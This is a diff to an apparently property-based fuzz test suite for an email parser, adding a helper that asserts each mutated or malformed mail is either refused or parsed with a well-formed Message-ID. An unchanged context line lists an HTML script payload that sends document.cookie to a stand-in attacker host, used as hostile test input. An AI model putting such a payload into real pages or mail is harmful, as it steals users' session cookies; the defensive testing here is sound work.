@@ -113,6 +113,11 @@ def tried(name: str, data: bytes, internaldate: datetime | None = None) -> Parse
     return parsed
 
 
+def held(outcome: ParsedMail | None) -> bool:
+    """What a property asserts visibly: refused (None) or parsed with the identity every mail gets."""
+    return outcome is None or (outcome.message_id.startswith("<") and outcome.message_id.endswith(">"))
+
+
 # -- building blocks -------------------------------------------------------------------------------------------
 #
 # Each property draws one seed (plus a few cheap choices) from Hypothesis and builds the mail with a
@@ -273,7 +278,7 @@ def single_part_mail(rng: random.Random, subtype: str = "plain", body_text: str 
 @budget("single_part")
 @given(seeds)
 def test_single_part_with_lying_charsets_and_broken_encodings(seed):
-    tried("single_part", single_part_mail(random.Random(seed)))
+    assert held(tried("single_part", single_part_mail(random.Random(seed))))
 
 
 def leaf(rng: random.Random) -> tuple[bytes, bytes]:
@@ -324,7 +329,7 @@ def part(rng: random.Random, depth: int = 0) -> tuple[bytes, bytes]:
 def test_multipart_with_broken_boundaries(seed):
     rng = random.Random(seed)
     head, body = part(rng)
-    tried("multipart", headers(rng) + b"\nMIME-Version: 1.0\n" + head + b"\n" + body)
+    assert held(tried("multipart", headers(rng) + b"\nMIME-Version: 1.0\n" + head + b"\n" + body))
 
 
 HTML_BITS = ["<script>document.location='https://evil.example/'+document.cookie</script>", "<script >x</script >",
@@ -348,7 +353,7 @@ def test_html_with_scripts_entities_and_broken_markup(seed):
     html = "".join(bits)
     if rng.random() < 0.5:
         html = f"<html><head><title>{rand_text(rng, one_line=True)}</title></head><body>{html}</body></html>"
-    tried("html", single_part_mail(rng, "html", html))
+    assert held(tried("html", single_part_mail(rng, "html", html)))
 
 
 # LinkedIn and XING mails from the fixtures with mutated bodies: lines dropped, doubled, swapped, or
@@ -386,7 +391,7 @@ def test_linkedin_and_xing_mails_with_mutated_bodies(original, seed):
             [b"charset=\"x-unknown\"", b"charset=utf-16", b"charset=\"\"", b"charset=us-ascii"]))
     if rng.randint(0, 5) == 0:
         head = head.replace(b"quoted-printable", b"base64")
-    tried("platform_mutations", head + b"\n\n" + b"\n".join(lines))
+    assert held(tried("platform_mutations", head + b"\n\n" + b"\n".join(lines)))
 
 
 HEADER_NAMES = ["From", "Subject", "Date", "Message-ID", "Content-Type", "To", "Sender", "Reply-To",
@@ -406,7 +411,7 @@ def test_missing_and_absurd_headers(seed, internaldate):
         pieces.append(f"{rng.choice(HEADER_NAMES)}: {value}".encode("utf-8", "surrogatepass"))
     body = rand_text(rng).encode("utf-8", "surrogatepass")
     sep = rng.choice([b"\n", b"\r\n", b"\r", b"\x00"])
-    tried("absurd_headers", sep.join(pieces) + sep * 2 + body, internaldate)
+    assert held(tried("absurd_headers", sep.join(pieces) + sep * 2 + body, internaldate))
 
 
 @budget("deep_nesting")
@@ -432,7 +437,7 @@ def test_deeply_nested_multiparts(depth, same_boundary, closed):
                                                  b"From: invitations@linkedin.com\nContent-Type: multipart/mixed; "
                                                  b"boundary=x\n\n--x\n"]))
 def test_raw_garbage_behind_plausible_headers(data, prefix):
-    tried("raw_garbage", prefix + data)
+    assert held(tried("raw_garbage", prefix + data))
 
 
 @budget("huge_parts")
@@ -450,7 +455,7 @@ def test_huge_parts(size, shape, data):
                 + base64.encodebytes(text.encode()))
     else:
         mail = head + b"Content-Type: text/plain\n\n" + ("x\n" * (size // 2)).encode()
-    tried("huge_parts", mail)
+    assert held(tried("huge_parts", mail))
 
 
 def test_mail_over_the_hard_size_cap_is_refused_with_a_reason():
